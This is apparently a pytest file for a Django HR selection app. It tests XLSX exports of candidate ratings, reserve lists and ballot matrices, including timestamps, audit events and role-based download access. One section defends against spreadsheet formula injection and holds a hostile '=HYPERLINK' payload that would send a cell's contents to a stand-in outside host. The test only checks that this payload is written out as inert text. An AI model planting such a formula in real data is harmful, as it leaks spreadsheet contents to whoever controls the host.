"""XLSX export: rating, reserve list and ballot matrix, stamped; downloads for the campaign's HR."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from rezerv.selection import services
from rezerv.selection.models import AuditEvent, Ballot, ReserveEntry
from rezerv.spreadsheets import export
from tests.web import factories as f

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 4, 21, 9, 15, 30, tzinfo=dt.UTC)  # 12:15:30 in Moscow


@pytest.fixture
def world() -> dict[str, Any]:
    """The decided KM campaign of the factories, decided again with a reserve (KM-18)."""
    today = timezone.localdate()
    w = f.km_world(today)
    f.reopen(w)  # the corrections below need the stage reopened (issue 13)
    other = w["other_application"]
    services.application_give_consent(actor=other.person.user, application=other, kind="reserve")
    members = w["members"]
    services.conflict_declare(
        actor=members[4].user,
        member=members[4],
        application=other,
        reason="Родственник кандидата",
    )
    services.vote_record(
        actor=w["users"]["hr"],
        meeting=w["meeting"],
        question="reserve",
        application=other,
        votes={m.pk: "for" for m in members[:4]},
    )
    # One member changes a score with a written reason: version 2, a later timestamp.
    ballot = Ballot.objects.get(member=members[2], application=other)
    services.ballot_save(
        actor=members[2].user,
        member=members[2],
        application=other,
        stage_id="competition",
        method_id="interview",
        points=7,
        reason="Уверенные ответы на вопросы о бюджете",
        expected_version=ballot.version,
    )
    w["decision"] = services.decision_make(
        actor=w["users"]["hr"],
        campaign=w["campaign"],
        stage_id="competition",
        meeting=w["meeting"],
        # The second decision of the stage supersedes km_world's (item 4: a reason is required).
        reason="Оценка члена комиссии изменена с письменной мотивировкой",
    )
    w["campaign"].refresh_from_db()
    return w


def build(kind: str, w: dict[str, Any]) -> Any:
    data, name = export.spreadsheet_export(
        actor=w["users"]["hr"], campaign=w["campaign"], kind=kind, now=NOW
    )
    assert name == f"{kind}-{w['campaign'].uid}-20260421-121530.xlsx"
    return load_workbook(io.BytesIO(data))


def rows_of(ws: Any) -> list[tuple[Any, ...]]:
    return list(ws.iter_rows(min_row=export.HEADER_ROW + 1, values_only=True))


def check_stamp(wb: Any, w: dict[str, Any], title: str) -> None:
    for ws in wb.worksheets:
        stamp = ws.cell(export.STAMP_ROW, 1).value
        assert stamp == "Выгружено 21.04.2026 12:15:30 (Europe/Moscow); выгрузил: hr"
        assert ws.cell(export.CAMPAIGN_ROW, 1).value == w["campaign"].title
    assert wb.worksheets[0].cell(export.TITLE_ROW, 1).value == title
    assert wb.properties.creator == "hr"
    assert wb.properties.created == dt.datetime(2026, 4, 21, 9, 15, 30)
    assert "Выгружено 21.04.2026 12:15:30" in wb.properties.description


def test_c6_rating_export_is_the_stored_decision_stamped_with_date_and_user(
    world: dict[str, Any],
) -> None:
    wb = build("rating", world)
    check_stamp(wb, world, "Рейтинг кандидатов")
    ws = wb["Рейтинг"]
    header = [c.value for c in ws[export.HEADER_ROW]]
    assert header[:6] == [
        "Место",
        "Шифр",
        "Фамилия, имя, отчество",
        "Итоговый балл",
        "Максимальный балл",
        "Итог",
    ]
    assert "Решение от" in ws.cell(export.SOURCE_ROW, 1).value
    result = world["decision"].result["candidates"]
    rows = rows_of(ws)
    assert len(rows) == len(result) == 2
    first, second = rows
    assert first[:6] == (
        1,
        world["application"].code,
        "Иванов Иван Иванович",
        float(result[0]["final_score"]),
        float(result[0]["max_score"]),
        "победитель",
    )
    assert first[3] == pytest.approx(float(result[0]["final_score"]))
    assert second[2] == "Петрова Мария Сергеевна"
    assert second[5] == "рекомендован в резерв"
    assert ws.cell(export.HEADER_ROW + 1, 4).number_format == "0.00"
    assert AuditEvent.objects.filter(action="export.rating", campaign=world["campaign"]).exists()


def test_km18_reserve_export_lists_name_birth_date_outcome_level_and_term(
    world: dict[str, Any],
) -> None:
    wb = build("reserve", world)
    check_stamp(wb, world, "Кадровый резерв")
    (row,) = rows_of(wb["Резерв"])
    entry = ReserveEntry.objects.get(decision=world["decision"])
    assert row[:4] == (
        1,
        "Петрова Мария Сергеевна",
        dt.datetime(1985, 5, 5),
        "рекомендован в резерв",
    )
    assert row[6] == dt.datetime.combine(entry.included_on, dt.time())
    assert row[7] == dt.datetime.combine(entry.until, dt.time())
    assert wb["Резерв"].cell(export.HEADER_ROW + 1, 3).number_format == "DD.MM.YYYY"


def test_km15_ballot_matrix_has_every_member_candidate_criterion_with_timestamps(
    world: dict[str, Any],
) -> None:
    wb = build("ballots", world)
    check_stamp(wb, world, "Бюллетени членов комиссии")
    ws = wb["Бюллетени"]
    header = [c.value for c in ws[export.HEADER_ROW]]
    assert header == [
        "Этап",
        "Метод",
        "Член комиссии",
        "Роль",
        "Шифр",
        "Кандидат",
        "Критерий",
        "Баллы",
        "Мотивировка",
        "Изменено",
        "Версия",
        "Примечание",
    ]
    rows = rows_of(ws)
    ballots = list(Ballot.objects.filter(campaign=world["campaign"]).select_related("member"))
    scored = [r for r in rows if not r[11]]
    assert len(scored) == len(ballots) == 9  # 5 members × 2 candidates, one recused
    by_key = {(r[2], r[4]): r for r in scored}
    for ballot in ballots:
        row = by_key[(ballot.member.full_name, ballot.application.code)]
        assert row[7] == float(ballot.points)
        expected = timezone.localtime(ballot.updated_at).replace(tzinfo=None, microsecond=0)
        assert row[9] == expected
        assert row[10] == ballot.version
    changed = by_key[("Членов Член3", world["other_application"].code)]
    assert (changed[7], changed[8], changed[10]) == (7, "Уверенные ответы на вопросы о бюджете", 2)
    assert changed[6] == "Балл по результатам индивидуального собеседования"
    assert changed[1] == "Индивидуальное собеседование"
    (recusal,) = [r for r in rows if r[11]]
    assert recusal[2] == "Членов Член5" and "конфликт интересов" in recusal[11]
    assert recusal[8] == "Родственник кандидата"
    assert ws.cell(export.HEADER_ROW + 1, 10).number_format == "DD.MM.YYYY HH:MM:SS"
    matrix = wb["Матрица 1"]
    assert "Индивидуальное собеседование" in matrix.cell(export.TITLE_ROW, 1).value
    grid = rows_of(matrix)
    assert [r[0] for r in grid] == sorted(
        [world["application"].code, world["other_application"].code]
    )
    members = [c.value for c in matrix[export.HEADER_ROW]][2:]
    assert members == [m.full_name for m in world["members"]]


def test_rating_needs_a_decision(world: dict[str, Any]) -> None:
    client = Client()
    client.force_login(world["users"]["hr"])
    response = client.get(
        reverse("sheets_export", args=[world["open_campaign"].uid, "rating"]), follow=True
    )
    assert "Решение ещё не принято" in response.content.decode()


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("hr", 200),
        ("admin", 200),
        ("hr_other", 403),
        ("chair", 403),
        ("member", 403),
        ("owner", 403),
        ("anon", 302),
    ],
)
@pytest.mark.parametrize("kind", ["rating", "reserve", "ballots"])
def test_downloads_are_for_the_campaigns_hr_and_admins_only(
    world: dict[str, Any], who: str, status: int, kind: str
) -> None:
    client = Client()
    user = world["users"][who]
    if user is not None:
        client.force_login(user)
    url = reverse("sheets_export", args=[world["campaign"].uid, kind])
    response = client.get(url)
    assert response.status_code == status
    if status == 200:
        assert response["Content-Type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml"
        )
        disposition = response["Content-Disposition"]
        assert str(world["campaign"].uid) in disposition
        for name in ("Иванов", "Петрова", "ivanov"):
            assert name not in disposition
        assert response.streaming  # issue 14: streamed from a temporary file
        wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        assert user.username in wb.worksheets[0].cell(export.STAMP_ROW, 1).value
        event = AuditEvent.objects.filter(action=f"export.{kind}").latest("at")
        assert event.actor == user
    else:
        assert not AuditEvent.objects.filter(action=f"export.{kind}").exists()


# --------------------------------------------------------------------------- formula cells (issue 13)

HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"Петрова")'


@pytest.mark.parametrize("text", [HOSTILE, "+7 (900) 000", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_evaluate_is_written_as_text(text: str) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.worksheets[0]
    cell = export.put(ws, 1, 1, text)
    assert (cell.data_type, cell.quotePrefix, cell.value) == ("s", True, text)
    back = load_workbook(_saved(wb)).worksheets[0]["A1"]
    assert (back.data_type, back.value) == ("s", text)


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    from openpyxl import Workbook

    ws = Workbook().worksheets[0]
    assert export.put(ws, 1, 1, "Иванов").quotePrefix is False
    assert export.put(ws, 1, 2, -3).data_type == "n"  # a negative number stays a number


def test_a_candidates_name_that_is_a_formula_stays_text_in_hr_exports(
    world: dict[str, Any],
) -> None:
    """Issue 13: a surname «=HYPERLINK(…)» was a live link in HR's export."""
    person = world["other_application"].person
    person.last_name = HOSTILE
    person.save(update_fields=["last_name"])
    for kind in ("reserve", "rating", "ballots"):
        wb = build(kind, world)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
    (row,) = rows_of(build("reserve", world)["Резерв"])
    assert row[1].startswith(HOSTILE)


def _saved(wb: Any) -> io.BytesIO:
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    return out
